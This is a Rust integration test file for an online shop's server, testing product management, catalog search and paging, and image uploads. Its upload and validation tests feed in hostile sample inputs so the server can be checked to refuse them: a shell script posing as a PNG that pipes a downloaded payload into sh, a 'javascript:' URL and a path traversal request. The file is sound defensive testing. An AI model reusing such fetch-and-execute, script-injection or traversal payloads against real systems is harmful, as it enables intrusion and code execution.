//! The catalog over HTTP, and image uploads.

use axum::http::{Method, StatusCode, header};
use base64::Engine as _;
use serde_json::{Value, json};

use crate::support::TestApp;

/// A real 1x1 PNG.
pub const PNG_B64: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

pub async fn operator(app: &TestApp) -> String {
    app.staff(
        "catalog-ops@example.com",
        "operator password",
        flashmart_domain::Role::Operator,
    )
    .await
}

/// Creates a product as `token` and returns its id.
pub async fn product_id(app: &TestApp, token: &str, body: Value) -> String {
    product(app, token, body).await["id"]
        .as_str()
        .unwrap()
        .to_owned()
}

pub async fn product(app: &TestApp, token: &str, body: Value) -> Value {
    let res = app
        .post("/api/v1/admin/products")
        .bearer(token)
        .json(&body)
        .send()
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.text());
    res.data()
}

#[tokio::test]
async fn operators_manage_products_and_clients_cannot_set_what_is_not_theirs() {
    let app = TestApp::start().await;
    let op = operator(&app).await;
    let (customer, _) = app.customer("c@example.com", "customer password").await;
    let body = json!({
        "name": "Red Sneaker", "description": "Fast", "price_cents": 12900, "currency": "eur",
        "stock": 5, "category": "Shoes", "images": ["/uploads/abc.png"],
        "id": "00000000-0000-0000-0000-000000000001", "sold": 999, "created_at": "2001-01-01T00:00:00Z"
    });
    app.post("/api/v1/admin/products")
        .bearer(&customer)
        .json(&body)
        .send()
        .await
        .assert_error(StatusCode::FORBIDDEN, 403);
    let p = product(&app, &op, body).await;
    assert_ne!(p["id"], "00000000-0000-0000-0000-000000000001");
    assert_eq!(p["sold"], 0);
    assert_ne!(p["created_at"], "2001-01-01T00:00:00Z");
    assert_eq!(p["currency"], "EUR");
    assert_eq!(p["category"], "shoes");
    let id = p["id"].as_str().unwrap().to_owned();

    // PATCH: only what is sent changes; null clears the category; sold stays the server's.
    let patched = app
        .req(Method::PATCH, &format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .json(&json!({"price_cents": 9900, "category": null, "sold": 5}))
        .send()
        .await
        .data();
    assert_eq!(patched["price_cents"], 9900);
    assert_eq!(patched["name"], "Red Sneaker");
    assert_eq!(patched["category"], Value::Null);
    assert_eq!(patched["sold"], 0);

    let bad = app
        .req(Method::PATCH, &format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .json(&json!({"price_cents": -1, "stock": -3, "images": ["javascript:alert(1)"]}))
        .send()
        .await
        .assert_error(StatusCode::UNPROCESSABLE_ENTITY, 422);
    let fields: Vec<&str> = bad["details"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["field"].as_str().unwrap())
        .collect();
    assert_eq!(fields, ["price_cents", "stock", "images[0]"]);

    // Inactive: gone for the public, still there for operators.
    app.req(Method::PATCH, &format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .json(&json!({"active": false}))
        .send()
        .await
        .data();
    app.get(&format!("/api/v1/products/{id}"))
        .send()
        .await
        .assert_error(StatusCode::NOT_FOUND, 20001);
    assert_eq!(
        app.get(&format!("/api/v1/admin/products/{id}"))
            .bearer(&op)
            .send()
            .await
            .data()["active"],
        false
    );

    app.req(Method::DELETE, &format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .send()
        .await
        .data();
    app.get(&format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .send()
        .await
        .assert_error(StatusCode::NOT_FOUND, 20001);
    app.req(Method::DELETE, &format!("/api/v1/admin/products/{id}"))
        .bearer(&op)
        .send()
        .await
        .assert_error(StatusCode::NOT_FOUND, 20001);
}

#[tokio::test]
async fn browsing_searches_filters_and_pages_in_a_stable_order() {
    let app = TestApp::start().await;
    let op = operator(&app).await;
    for (i, (name, cat)) in [
        ("Red Sneaker", "shoes"),
        ("Blue Sneaker", "shoes"),
        ("Red Hat", "hats"),
        ("Green Hat", "hats"),
        ("Red Scarf", "scarves"),
    ]
    .into_iter()
    .enumerate()
    {
        product(
            &app,
            &op,
            json!({"name": name, "price_cents": 1000 + i, "stock": 3, "category": cat}),
        )
        .await;
        app.clock.advance(time::Duration::seconds(1));
    }
    let names = |v: &Value| -> Vec<String> {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap().to_owned())
            .collect()
    };
    let red = app.get("/api/v1/products?q=red").send().await.data();
    assert_eq!(names(&red), ["Red Scarf", "Red Hat", "Red Sneaker"]);
    let hats = app
        .get("/api/v1/products?category=hats")
        .send()
        .await
        .data();
    assert_eq!(names(&hats), ["Green Hat", "Red Hat"]);
    let both = app
        .get("/api/v1/products?q=red&category=hats")
        .send()
        .await
        .data();
    assert_eq!(names(&both), ["Red Hat"]);
    let p1 = app
        .get("/api/v1/products?per_page=2&page=1")
        .send()
        .await
        .data();
    let p2 = app
        .get("/api/v1/products?per_page=2&page=2")
        .send()
        .await
        .data();
    let p3 = app
        .get("/api/v1/products?per_page=2&page=3")
        .send()
        .await
        .data();
    assert_eq!(p1["total"], 5);
    let walked: Vec<String> = [names(&p1), names(&p2), names(&p3)].concat();
    assert_eq!(
        walked,
        [
            "Red Scarf",
            "Green Hat",
            "Red Hat",
            "Blue Sneaker",
            "Red Sneaker"
        ]
    );
    let none = app
        .get("/api/v1/products?category=No%20Such%21")
        .send()
        .await
        .data();
    assert_eq!(none["total"], 0);
    app.get("/api/v1/products?page=x")
        .send()
        .await
        .assert_error(StatusCode::BAD_REQUEST, 400);
}

pub fn multipart(
    field: &str,
    filename: &str,
    content_type: &str,
    bytes: &[u8],
) -> (String, Vec<u8>) {
    multipart_parts(&[(field, Some(filename), content_type, bytes)])
}

/// A multipart body of `(field, filename, content type, bytes)` parts, and its content type.
pub fn multipart_parts(parts: &[(&str, Option<&str>, &str, &[u8])]) -> (String, Vec<u8>) {
    let boundary = "flashmart-test-boundary";
    let mut body = Vec::new();
    for (field, filename, content_type, bytes) in parts {
        let filename = filename.map_or(String::new(), |f| format!("; filename=\"{f}\""));
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"{filename}\r\n\
                 Content-Type: {content_type}\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

#[tokio::test]
async fn uploads_are_checked_by_their_bytes_and_served_back_identical() {
    let app = TestApp::with_config(|c| c.uploads.max_bytes = 4096).await;
    let op = operator(&app).await;
    let png = base64::engine::general_purpose::STANDARD
        .decode(PNG_B64)
        .unwrap();

    // A script renamed .png, claiming to be a PNG: refused.
    let (ct, body) = multipart(
        "file",
        "cat.png",
        "image/png",
        b"#!/bin/sh\ncurl evil | sh\n",
    );
    app.post("/api/v1/admin/uploads")
        .bearer(&op)
        .raw(&ct, body)
        .send()
        .await
        .assert_error(StatusCode::UNSUPPORTED_MEDIA_TYPE, 70002);

    // A real PNG named .txt: accepted as the PNG it is.
    let (ct, body) = multipart("file", "notes.txt", "text/plain", &png);
    let res = app
        .post("/api/v1/admin/uploads")
        .bearer(&op)
        .raw(&ct, body)
        .send()
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.text());
    let stored = res.data();
    assert_eq!(stored["content_type"], "image/png");
    assert_eq!(stored["size"], png.len());
    let url = stored["url"].as_str().unwrap().to_owned();
    assert!(url.starts_with("/uploads/") && url.ends_with(".png"));

    let served = app.get(&url).send().await;
    assert_eq!(served.status, StatusCode::OK);
    assert_eq!(served.headers[header::CONTENT_TYPE], "image/png");
    assert_eq!(served.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(&served.body[..], &png[..], "byte-identical");

    // Too large, no file field, not an operator, no such upload.
    let (ct, body) = multipart("file", "big.png", "image/png", &[0x89; 5000]);
    app.post("/api/v1/admin/uploads")
        .bearer(&op)
        .raw(&ct, body)
        .send()
        .await
        .assert_error(StatusCode::PAYLOAD_TOO_LARGE, 70001);
    let (ct, body) = multipart("picture", "a.png", "image/png", &png);
    app.post("/api/v1/admin/uploads")
        .bearer(&op)
        .raw(&ct, body)
        .send()
        .await
        .assert_error(StatusCode::UNPROCESSABLE_ENTITY, 70003);
    // The form has one field: a second one, even beside a good file, is refused.
    let (ct, body) = multipart_parts(&[
        ("file", Some("a.png"), "image/png", png.as_slice()),
        ("note", None, "text/plain", b"hi".as_slice()),
    ]);
    app.post("/api/v1/admin/uploads")
        .bearer(&op)
        .raw(&ct, body)
        .send()
        .await
        .assert_error(StatusCode::UNPROCESSABLE_ENTITY, 70003);
    let (customer, _) = app.customer("c@example.com", "customer password").await;
    let (ct, body) = multipart("file", "a.png", "image/png", &png);
    app.post("/api/v1/admin/uploads")
        .bearer(&customer)
        .raw(&ct, body)
        .send()
        .await
        .assert_error(StatusCode::FORBIDDEN, 403);
    app.get(&format!("/uploads/{}.png", "0".repeat(64)))
        .send()
        .await
        .assert_error(StatusCode::NOT_FOUND, 404);
    app.get("/uploads/..%2Fdata%2Fflashmart.db")
        .send()
        .await
        .assert_error(StatusCode::NOT_FOUND, 404);
}

#[tokio::test]
async fn demo_seeding_twice_leaves_the_shop_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = flashmart_server::Config {
        data_dir: dir.path().join("data"),
        ..flashmart_server::Config::default()
    };
    let schema = crate::support::records_for(&mut config).await;
    flashmart_server::commands::seed_demo(&config)
        .await
        .unwrap();
    flashmart_server::commands::seed_demo(&config)
        .await
        .unwrap();
    let app = TestApp::on_records(dir, config, schema).await;
    let products = app.get("/api/v1/products?per_page=100").send().await.data();
    assert_eq!(products["total"], 12, "{products}");
    let admin = app
        .login("admin@demo.flashmart.dev", "demo-admin-pass")
        .await
        .0;
    let coupons = app
        .get("/api/v1/admin/coupons")
        .bearer(&admin)
        .send()
        .await
        .data();
    assert_eq!(coupons["total"], 1, "{coupons}");
}
